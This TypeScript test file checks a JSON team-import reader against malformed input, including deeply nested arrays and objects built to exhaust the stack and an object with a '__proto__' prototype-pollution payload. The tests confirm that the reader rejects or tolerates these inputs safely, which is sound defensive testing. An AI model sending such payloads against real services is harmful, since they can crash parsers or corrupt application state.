    ['a deep object', '{"a":'.repeat(50_000) + '1' + '}'.repeat(50_000), 'json-not-array'],
    ['an empty array', '[]', 'empty'],
    ['two arrays', '[][]', 'bad-json'],
    ['NaN', 'NaN', 'bad-json'],
    ['an unclosed array', '[{"name_en":"A"}', 'bad-json'],
  ])('gives a whole-file message for %s', (_what, text, error) => {
    const result = read(utf8(text), 'team.json');
    expectReport(result);
    expect(result.error).toBe(error);
  });

  it.each([
    ['nested arrays', '[[{"name_en":"A"}],[1,2]]', ['{"name_en":"A"}', '1;2']],
    ['non-objects', '[1,"a",null,true,[],""]', ['1', 'a', '', 'true', '', '']],
    ['an array nested deeper than the stack', `[${'['.repeat(200_000)}${']'.repeat(200_000)}]`, ['']],
  ])('rejects each item of %s as a row without a name', (_what, text, values) => {
    const result = read(utf8(text), 'team.json');
    expectReport(result);
    expect(result.error).toBeUndefined();
    expect(result.total).toBe(values.length);
    expect(result.rejected).toEqual(values.map((value, i) => ({ line: i + 1, reason: 'missing-name', value })));
  });

  it('reads objects with deep or odd values and prototype keys without harm', () => {
    const deep = '{"x":'.repeat(100_000) + '1' + '}'.repeat(100_000);
    const text = `[{"name_en":"A","source":${deep}},{"__proto__":{"polluted":true},"name_en":"B"},{"name_en":{"en":"C"}}]`;
    const result = read(utf8(text), 'team.json');
    expectReport(result);
    expect(result.total).toBe(3);
    expect(result.accepted.map((r) => r.name.en)).toEqual(['A', 'B', '{"en":"C"}']);
    expect(result.warnings).toEqual([{ kind: 'unknown-column', column: '__proto__' }]);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('never throws on random JSON values and answers every item', () => {
    fc.assert(
      fc.property(fc.jsonValue({ maxDepth: 4 }), (value) => {
        const result = read(utf8(JSON.stringify(value)), 'team.json');
        expectReport(result);
        if (!Array.isArray(value)) expect(result.error).toBe('json-not-array');
        else if (value.length === 0) expect(result.error).toBe('empty');
        else expect(result.total).toBe(value.length);
      }),
      { numRuns: 500, seed: 20261204 },
    );
  });
});
